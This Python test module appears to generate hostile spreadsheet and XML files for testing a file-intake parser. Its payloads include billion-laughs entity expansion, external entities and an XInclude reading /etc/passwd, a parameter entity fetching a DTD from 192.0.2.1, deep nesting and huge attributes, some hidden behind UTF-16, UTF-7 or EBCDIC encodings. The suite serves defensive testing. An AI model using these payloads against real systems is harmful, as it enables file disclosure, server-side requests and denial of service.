"""Attacks on whoever reads XML: entities, depth, encodings, broken markup."""

from __future__ import annotations

from tests.core.intake.formats.ods_writer import KIND, content, ods_of
from tests.core.intake.formats.text_writers import SPREADSHEET
from tests.core.intake.hostile.designed import designed
from tests.core.intake.making import MAIN, TABLE, cell, package, row, workbook

SHEET = "xl/worksheets/sheet1.xml"
LAUGHS = (
    "<!DOCTYPE a [<!ENTITY l0 'ha'>"
    + "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    + "]>"
)
LONG = f"<!DOCTYPE a [<!ENTITY l '{'a' * 100_000}'>]>"
FILE = '<!DOCTYPE a [<!ENTITY l SYSTEM "file:///etc/passwd">]>'
SITE = '<!DOCTYPE a [<!ENTITY % l SYSTEM "http://192.0.2.1/a.dtd"> %l;]>'


def markup():
    yield from designed("document type", TYPES, code="document_type")
    yield from designed("document type in disguise", DISGUISED)
    yield from designed("markup without end", ENDLESS)
    yield from designed("broken markup", BROKEN)
    yield from designed("false encoding", ENCODED)


def sheet(rows=TABLE, before="", after="", head='<?xml version="1.0"?>'):
    """Return a workbook whose sheet is such markup."""
    return workbook("", more={SHEET: sheet_part(rows, before, after, head)})


def sheet_part(rows=TABLE, before="", after="", head='<?xml version="1.0"?>'):
    body = f'<worksheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></worksheet>'
    return head + before + body + after


def part(name, text):
    return workbook(TABLE, more={name: text})


def xml(body, head="", more=""):
    """Return an XML Spreadsheet of Excel 2003."""
    return (
        f'<?xml version="1.0"?>{head}<Workbook xmlns="{SPREADSHEET}"'
        f' xmlns:ss="{SPREADSHEET}"{more}><Worksheet ss:Name="Data"><Table>{body}'
        "</Table></Worksheet></Workbook>"
    )


def text(said):
    return row(1, f'<c r="A1" t="inlineStr"><is><t>{said}</t></is></c>')


def xml_text(said):
    return f'<Row><Cell><Data ss:Type="String">{said}</Data></Cell></Row>'


def wide(encoding, before=""):
    part_in = sheet_part(before=before).encode(encoding)
    return workbook("", more={SHEET: part_in})


TYPES = {
    "laughs.xlsx": lambda: sheet(text("&l11;"), LAUGHS),
    "laughs.xml": lambda: xml(xml_text("&l11;"), LAUGHS),
    "laughs.ods": lambda: ods_of("", more={"content.xml": LAUGHS + content("&l11;")}),
    "long-entity-often.xlsx": lambda: sheet(text("&l;" * 9_000), LONG),
    "file-of-the-system.xlsx": lambda: sheet(text("&l;"), FILE),
    "file-of-the-system.xml": lambda: xml(xml_text("&l;"), FILE),
    "file-of-the-system.ods": lambda: ods_of(
        "", more={"content.xml": FILE + content("")}
    ),
    "web-site.xlsx": lambda: sheet(before=SITE),
    "web-site.xml": lambda: xml("", SITE),
    "in-the-workbook.xlsx": lambda: part("xl/workbook.xml", SITE + "<workbook/>"),
    "in-the-links.xlsx": lambda: part(
        "xl/_rels/workbook.xml.rels", SITE + "<Relationships/>"
    ),
    "in-the-styles.xlsx": lambda: part("xl/styles.xml", LAUGHS + "<styleSheet/>"),
    "in-the-texts.xlsx": lambda: part("xl/sharedStrings.xml", LAUGHS + "<sst/>"),
    "in-a-part-nobody-reads.xlsx": lambda: part("customXml/item1.xml", SITE + "<a/>"),
    "in-a-drawing.xlsx": lambda: part("xl/drawings/vmlDrawing1.vml", SITE + "<a/>"),
    "in-small-letters.xlsx": lambda: sheet(before=LAUGHS.replace("DOCTYPE", "doctype")),
    "after-a-long-remark.xlsx": lambda: sheet(before=f"<!--{'a' * 131_040}-->" + SITE),
    "in-the-styles.ods": lambda: ods_of("", more={"styles.xml": SITE + "<a/>"}),
}
DISGUISED = {
    "before-the-start-is-seen.xml": lambda: xml(xml_text("&l;" * 9_000), LONG),
    "wide-little.xlsx": lambda: wide("utf-16-le", SITE),
    "wide-big.xlsx": lambda: wide("utf-16-be", SITE),
    "wide-with-mark.xlsx": lambda: wide("utf-16", SITE),
    "wider.xlsx": lambda: wide("utf-32", SITE),
    "seven-bits.xlsx": lambda: workbook(
        "",
        more={
            SHEET: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'
            + sheet_part(head="")
        },
    ),
    "of-a-mainframe.xlsx": lambda: workbook(
        "", more={SHEET: sheet_part(before=SITE).encode("cp500")}
    ),
    "wide.xml": lambda: xml("", SITE).encode("utf-16"),
    "in-a-part-of-another-name.xlsx": lambda: workbook(
        TABLE, more={"xl/styles.bin": LAUGHS}
    ),
    "included.xlsx": lambda: sheet(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
        ' href="file:///etc/passwd" parse="text"/>' + TABLE
    ),
    "style-sheet.xml": lambda: xml(
        "", '<?xml-stylesheet href="http://192.0.2.1/a.xsl"?>'
    ),
}
DEEP = 100_000
ENDLESS = {
    "deep.xlsx": lambda: sheet("<a>" * DEEP + "</a>" * DEEP + TABLE),
    "deep-text.xlsx": lambda: sheet(text("<r>" * DEEP + "a" + "</r>" * DEEP)),
    "deep.xml": lambda: xml("<Row>" * DEEP + "</Row>" * DEEP),
    "deep-data.xml": lambda: xml(xml_text("<B>" * DEEP + "a" + "</B>" * DEEP)),
    "deep.ods": lambda: ods_of("<table:table>" * DEEP + "</table:table>" * DEEP),
    "deep-rows.ods": lambda: ods_of(
        "<table:table>"
        + "<table:table-row-group>" * DEEP
        + "</table:table-row-group>" * DEEP
        + "</table:table>"
    ),
    "deep-styles.xlsx": lambda: part("xl/styles.xml", "<a>" * DEEP),
    "deep-texts.xlsx": lambda: part("xl/sharedStrings.xml", "<si>" * DEEP),
    "attribute-of-20-million.xlsx": lambda: sheet(
        row(1, more=f' a="{"b" * 20_000_000}"') + TABLE
    ),
    "attribute-of-20-million.xml": lambda: xml(f'<Row a="{"b" * 20_000_000}"/>'),
    "100000-attributes.xlsx": lambda: sheet(
        row(1, more="".join(f' a{n}="b"' for n in range(DEEP))) + TABLE
    ),
    "100000-attributes.xml": lambda: xml(
        "<Row" + "".join(f" a{n}='b'" for n in range(DEEP)) + "/>"
    ),
    "50000-namespaces.xml": lambda: xml(
        "", more="".join(f' xmlns:n{n}="u{n}"' for n in range(50_000))
    ),
    "tag-of-20-million.xlsx": lambda: sheet("<" + "a" * 20_000_000 + "/>" + TABLE),
    "remark-of-20-million.xlsx": lambda: sheet(f"<!--{'-a' * 10_000_000}-->" + TABLE),
    "remarks-without-end.xlsx": lambda: sheet("<!---->" * 1_000_000 + TABLE),
    "orders-without-end.xml": lambda: xml("<?a?>" * 1_000_000),
    "references-without-end.xlsx": lambda: sheet(text("&#65;" * 2_000_000)),
    "references-without-end.xml": lambda: xml(xml_text("&#65;" * 2_000_000)),
    "sections-without-end.xml": lambda: xml(xml_text("<![CDATA[a]]>" * 500_000)),
}
BROKEN = {
    "not-closed.xlsx": lambda: sheet("<row><c><v>1"),
    "crossed.xlsx": lambda: sheet("<row><c></row></c>"),
    "remark-not-closed.xlsx": lambda: sheet("<!-- " + TABLE),
    "section-not-closed.xlsx": lambda: sheet("<![CDATA[" + TABLE),
    "order-not-closed.xlsx": lambda: sheet("<?a " + TABLE),
    "attribute-not-closed.xlsx": lambda: sheet('<row r="1>' + TABLE),
    "attribute-twice.xlsx": lambda: sheet('<row r="1" r="2"/>' + TABLE),
    "attribute-without-quotes.xlsx": lambda: sheet("<row r=1/>" + TABLE),
    "unknown-entity.xlsx": lambda: sheet(text("&nbsp;&evil;")),
    "reference-to-nothing.xlsx": lambda: sheet(text("&#0;&#x1F;")),
    "reference-beyond-unicode.xlsx": lambda: sheet(text("&#x110000;&#99999999999;")),
    "reference-to-half-a-pair.xlsx": lambda: sheet(text("&#xD800;")),
    "reference-to-half-a-pair.xml": lambda: xml(xml_text("&#xD800;")),
    "reference-to-half-a-pair.ods": lambda: ods_of(
        "<table:table><table:table-row><table:table-cell><text:p>&#xD800;</text:p>"
        "</table:table-cell></table:table-row></table:table>"
    ),
    "two-roots.xlsx": lambda: sheet(after="<worksheet/>"),
    "no-root.xlsx": lambda: part(SHEET, "<?xml version='1.0'?>"),
    "nothing.xlsx": lambda: part(SHEET, ""),
    "space-before-the-start.xlsx": lambda: sheet(head='\n\n<?xml version="1.0"?>'),
    "version-9.xlsx": lambda: sheet(head='<?xml version="9.9"?>'),
    "another-namespace.xlsx": lambda: part(
        SHEET, f'<worksheet xmlns="evil"><sheetData>{TABLE}</sheetData></worksheet>'
    ),
    "another-root.xlsx": lambda: part(SHEET, f'<chartsheet xmlns="{MAIN}"/>'),
    "prefix-of-nobody.xlsx": lambda: sheet("<x:row/>" + TABLE),
    "names-with-prefix.xlsx": lambda: part(
        SHEET,
        f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData>'
        '<x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>'
        "</x:sheetData></x:worksheet>",
    ),
    "workbook-of-nothing.xlsx": lambda: part("xl/workbook.xml", ""),
    "content-of-nothing.ods": lambda: package({"mimetype": KIND, "content.xml": ""}),
    "content-not-there.ods": lambda: package({"mimetype": KIND}),
    "cut-off.xml": lambda: xml(xml_text("a") * 50)[:900],
    "only-a-start.xml": lambda: (
        f'<?xml version="1.0"?><Workbook xmlns="{SPREADSHEET}">'
    ),
}


def bytes_in_text(evil):
    said = sheet_part(row(1, cell("A1", "Japan@"), cell("B1", 1))).encode()
    return workbook("", more={SHEET: said.replace(b"@", evil)})


def declared(name):
    return sheet(head=f'<?xml version="1.0" encoding="{name}"?>')


ENCODED = {
    "no-utf8.xlsx": lambda: bytes_in_text(b"\xff\xfe\x80"),
    "utf8-too-long.xlsx": lambda: bytes_in_text(b"\xc0\xaf"),
    "utf8-of-half-a-pair.xlsx": lambda: bytes_in_text(b"\xed\xa0\x80"),
    "utf8-beyond-unicode.xlsx": lambda: bytes_in_text(b"\xf4\x90\x80\x80"),
    "end-of-text.xlsx": lambda: bytes_in_text(b"\0"),
    "escape.xlsx": lambda: bytes_in_text(b"\x1b[31m"),
    "byte-order-mark-inside.xlsx": lambda: bytes_in_text(b"\xef\xbb\xbf"),
    "no-characters.xlsx": lambda: bytes_in_text("\ufffe\uffff".encode()),
    "says-utf16-and-is-not.xlsx": lambda: declared("UTF-16"),
    "says-nothing-known.xlsx": lambda: declared("x-evil"),
    "says-ten-thousand-letters.xlsx": lambda: declared("a" * 10_000),
    "says-shift-jis-and-is-not.xlsx": lambda: declared("Shift_JIS"),
    "three-byte-order-marks.xlsx": lambda: sheet(head="\ufeff\ufeff\ufeff"),
    "says-utf16-and-is-not.xml": lambda: xml(xml_text("日本")).replace(
        'version="1.0"', 'version="1.0" encoding="UTF-16"'
    ),
    "says-nothing-known.xml": lambda: xml(xml_text("日本")).replace(
        'version="1.0"', 'version="1.0" encoding="x-evil"'
    ),
    "no-utf8.xml": lambda: xml(xml_text("@")).encode().replace(b"@", b"\xff\xfe"),
    "no-utf8.ods": lambda: ods_of(
        "",
        more={"content.xml": content("<table:table>@").encode().replace(b"@", b"\xff")},
    ),
    "base64-as-encoding.xml": lambda: xml(xml_text("a")).replace(
        'version="1.0"', 'version="1.0" encoding="rot13"'
    ),
}
